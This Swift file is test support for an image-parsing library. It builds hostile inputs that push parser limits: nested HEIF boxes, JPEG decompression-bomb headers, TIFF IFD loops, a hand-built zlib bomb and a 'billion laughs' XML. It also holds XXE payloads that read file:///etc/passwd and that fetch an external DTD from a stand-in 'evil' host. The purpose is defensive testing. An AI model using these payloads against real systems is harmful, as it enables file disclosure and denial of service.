import PhotoCore

/// Hand-built hostile files for the limit tests: each pushes exactly one cap (nesting, counts,
/// total bytes, inflated size, entity expansion, pixel count) just past its limit.
enum HostileInputs {
  // MARK: ISOBMFF

  /// A box: 32-bit size, type, payload. [ISO/IEC 14496-12 4.2]
  static func box(_ type: String, _ payload: [UInt8]) -> [UInt8] {
    be32(payload.count + 8) + Array(type.utf8) + payload
  }

  /// A FullBox: version 0, flags 0, then the payload.
  static func fullBox(_ type: String, _ payload: [UInt8]) -> [UInt8] { box(type, [0, 0, 0, 0] + payload) }

  static let ftypHEIC = box("ftyp", Array("heic".utf8) + [0, 0, 0, 0] + Array("mif1heic".utf8))

  /// A HEIF whose `meta` holds `dinf` boxes nested `depth` deep.
  static func heifNestedBoxes(depth: Int) -> [UInt8] {
    var inner: [UInt8] = []
    for _ in 0..<depth { inner = box("dinf", inner) }
    return ftypHEIC + fullBox("meta", inner)
  }

  /// A HEIF whose `meta` holds `count` empty `free` boxes.
  static func heifManyBoxes(count: Int) -> [UInt8] {
    let free = box("free", [])
    var payload: [UInt8] = []
    payload.reserveCapacity(free.count * count)
    for _ in 0..<count { payload += free }
    return ftypHEIC + fullBox("meta", payload)
  }

  /// A HEIF whose `meta` box is `size` bytes (one big `free` child).
  static func heifHugeMeta(size: Int) -> [UInt8] {
    ftypHEIC + fullBox("meta", box("free", [UInt8](repeating: 0, count: size - 20)))
  }

  // MARK: JPEG

  /// SOI, `count` COM segments of `payload` bytes each, a frame, a scan, EOI.
  static func jpegWithComments(count: Int, payload: Int) -> [UInt8] {
    var b = JPEGBuilder()
    let body = [UInt8](repeating: 0x41, count: payload)
    b.bytes.reserveCapacity(count * (payload + 4) + 64)
    for _ in 0..<count { b.segment(0xFE, body) }
    b.frame(width: 8, height: 8)
    b.scanAndEnd()
    return b.bytes
  }

  /// A JPEG that declares `width`×`height` pixels (a "decompression bomb" header): a real
  /// baseline stream for an 8×8 picture with the frame header's size patched.
  static func patchedJPEGSize(_ jpeg: [UInt8], width: Int, height: Int) -> [UInt8]? {
    var bytes = jpeg
    var i = 2
    while i + 9 < bytes.count, bytes[i] == 0xFF {
      let marker = bytes[i + 1]
      let length = Int(bytes[i + 2]) << 8 | Int(bytes[i + 3])
      if JPEGMarker.isStartOfFrame(marker) {
        bytes[i + 5] = UInt8(height >> 8); bytes[i + 6] = UInt8(height & 0xFF)
        bytes[i + 7] = UInt8(width >> 8); bytes[i + 8] = UInt8(width & 0xFF)
        return bytes
      }
      i += 2 + length
    }
    return nil
  }

  // MARK: TIFF / EXIF

  /// A little-endian TIFF whose IFD0 "next IFD" points back at IFD0 (a chain loop), with one
  /// Orientation entry.
  static func tiffIFDLoop() -> [UInt8] {
    [0x49, 0x49, 0x2A, 0x00] + le32(8) + le16(1) + le16(0x0112) + le16(3) + le32(1) + le16(6) + le16(0) + le32(8)
  }

  /// A little-endian TIFF whose ExifIFD pointers nest `depth` deep (each Exif IFD points to the
  /// next), then a last one pointing back at IFD0.
  static func tiffDeepExifChain(depth: Int) -> [UInt8] {
    var out: [UInt8] = [0x49, 0x49, 0x2A, 0x00] + le32(8)
    // Each IFD: count 1, entry ExifIFDPointer (LONG) → next IFD, next-IFD 0: 18 bytes.
    for level in 0..<depth {
      let next = level + 1 < depth ? 8 + (level + 1) * 18 : 8
      out += le16(1) + le16(0x8769) + le16(4) + le32(1) + le32(next) + le32(0)
    }
    return out
  }

  // MARK: PNG

  static let pngSignature: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]

  /// A chunk with a correct CRC. [PNG 5.3]
  static func chunk(_ type: String, _ data: [UInt8]) -> [UInt8] {
    let typeBytes = Array(type.utf8)
    let crc = PNGCRC.checksum(data, continuing: PNGCRC.checksum(typeBytes))
    return be32(data.count) + typeBytes + data + be32(Int(crc))
  }

  static func ihdr(width: Int, height: Int) -> [UInt8] {
    chunk("IHDR", be32(width) + be32(height) + [8, 2, 0, 0, 0])
  }

  /// Signature, IHDR, the given chunks, IEND.
  static func png(_ chunks: [[UInt8]], width: Int = 1, height: Int = 1) -> [UInt8] {
    var out = pngSignature + ihdr(width: width, height: height)
    for c in chunks { out += c }
    return out + chunk("IEND", [])
  }

  /// A PNG of `count` empty ancillary `tIME`-like chunks (`prVt`, private, not read).
  static func pngManyChunks(count: Int) -> [UInt8] {
    let c = chunk("prVt", [])
    var out = pngSignature + ihdr(width: 1, height: 1)
    out.reserveCapacity(out.count + c.count * count + 12)
    for _ in 0..<count { out += c }
    return out + chunk("IEND", [])
  }

  // MARK: Deflate

  /// A zlib stream that inflates to `count` zero bytes (`count` ≡ 1 mod 258), built by hand with
  /// fixed Huffman codes: one literal 0, then (length 258, distance 1) pairs. About 1,000:1, so
  /// a 17 MiB bomb is 110 KB. [RFC 1950; RFC 1951 3.2.6]
  static func zlibZeros(pairs: Int) -> (stream: [UInt8], inflatedSize: Int) {
    var w = BitWriter()
    w.bits(1, count: 1)  // BFINAL
    w.bits(1, count: 2)  // BTYPE = 01, fixed Huffman
    w.code(0x30, length: 8)  // literal 0: codes 0–143 are 0x30 + value, 8 bits
    for _ in 0..<pairs {
      w.code(0xC5, length: 8)  // length 258: code 285 = 0xC0 + (285 − 280), 8 bits
      w.code(0, length: 5)  // distance 1: code 0, 5 bits
    }
    w.code(0, length: 7)  // end of block: code 256, 7 bits
    let size = 1 + 258 * pairs
    let adler = UInt32(size % 65521) << 16 | 1  // Adler-32 of zeros: a = 1, b = n mod 65521
    return ([0x78, 0x01] + w.bytes + be32(Int(adler)), size)
  }

  /// Deflate's bit order: fields LSB first, Huffman codes MSB first. [RFC 1951 3.1.1]
  struct BitWriter {
    var bytes: [UInt8] = []
    var used = 8

    mutating func bit(_ b: UInt32) {
      if used == 8 { bytes.append(0); used = 0 }
      bytes[bytes.count - 1] |= UInt8(b & 1) << UInt8(used)
      used += 1
    }

    mutating func bits(_ value: UInt32, count: Int) { for i in 0..<count { bit(value >> UInt32(i)) } }
    mutating func code(_ value: UInt32, length: Int) { for i in stride(from: length - 1, through: 0, by: -1) { bit(value >> UInt32(i)) } }
  }

  // MARK: XML

  /// The "billion laughs": ten entities each expanding to ten of the previous.
  static let billionLaughs: String = {
    var dtd = #"<!DOCTYPE x:xmpmeta [<!ENTITY lol "lol">"#
    for i in 1...9 {
      let previous = i == 1 ? "lol" : "lol\(i - 1)"
      dtd += "<!ENTITY lol\(i) \"" + String(repeating: "&\(previous);", count: 10) + "\">"
    }
    return dtd + #"]><x:xmpmeta xmlns:x="adobe:ns:meta/">&lol9;</x:xmpmeta>"#
  }()

  /// An external entity pointing at a local file.
  static let externalEntity = #"<?xml version="1.0"?><!DOCTYPE x:xmpmeta [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&xxe;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"#

  /// A parameter-entity variant (external DTD fetched through %dtd;).
  static let externalParameterEntity = #"<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://example.invalid/evil.dtd"> %dtd;]><x:xmpmeta xmlns:x="adobe:ns:meta/">&exfil;</x:xmpmeta>"#

  static func xmlNested(depth: Int) -> String {
    #"<x:xmpmeta xmlns:x="adobe:ns:meta/">"# + String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth) + "</x:xmpmeta>"
  }

  static func xmlManyElements(_ count: Int) -> String {
    #"<x:xmpmeta xmlns:x="adobe:ns:meta/">"# + String(repeating: "<b/>", count: count) + "</x:xmpmeta>"
  }

  // MARK: Carriers

  /// An MPF header (big-endian) whose NumberOfImages says `images` and whose MP Entry holds them.
  static func mpfIndex(images: Int) -> [UInt8] {
    var out: [UInt8] = Array("MM".utf8) + [0, 0x2A] + be32(8)
    out += be16(2)
    out += be16(0xB001) + be16(4) + be32(1) + be32(images)
    let dataOffset = 8 + 2 + 2 * 12 + 4
    out += be16(0xB002) + be16(7) + be32(16 * images) + be32(dataOffset)
    out += be32(0)
    for i in 0..<images { out += be32(i == 0 ? 0x2003_0000 : 0x0001_0001) + be32(100) + be32(i == 0 ? 0 : 1000 + i) + be32(0) }
    return out
  }

  /// `count` empty Photoshop 8BIM resources.
  static func photoshopResources(count: Int) -> [UInt8] {
    let one: [UInt8] = Array("8BIM".utf8) + be16(0x0401) + [0, 0] + be32(0)
    var out: [UInt8] = []
    out.reserveCapacity(one.count * count)
    for _ in 0..<count { out += one }
    return out
  }

  /// An ICC profile whose tag table declares `count` tags, all present and pointing at its header.
  static func iccManyTags(count: Int) -> [UInt8] {
    var header = [UInt8](repeating: 0, count: 128)
    let size = 128 + 4 + 12 * count
    header.replaceSubrange(0..<4, with: be32(size))
    header.replaceSubrange(36..<40, with: Array("acsp".utf8))
    var out = header + be32(count)
    for i in 0..<count { out += [0x74, UInt8(48 + i / 100 % 10), UInt8(48 + i / 10 % 10), UInt8(48 + i % 10)] + be32(0) + be32(4) }
    return out
  }

  // MARK: Integers

  static func be16(_ v: Int) -> [UInt8] { [UInt8((v >> 8) & 0xFF), UInt8(v & 0xFF)] }
  static func be32(_ v: Int) -> [UInt8] { (0..<4).map { UInt8((v >> (24 - 8 * $0)) & 0xFF) } }
  static func le16(_ v: Int) -> [UInt8] { [UInt8(v & 0xFF), UInt8((v >> 8) & 0xFF)] }
  static func le32(_ v: Int) -> [UInt8] { (0..<4).map { UInt8((v >> (8 * $0)) & 0xFF) } }
}
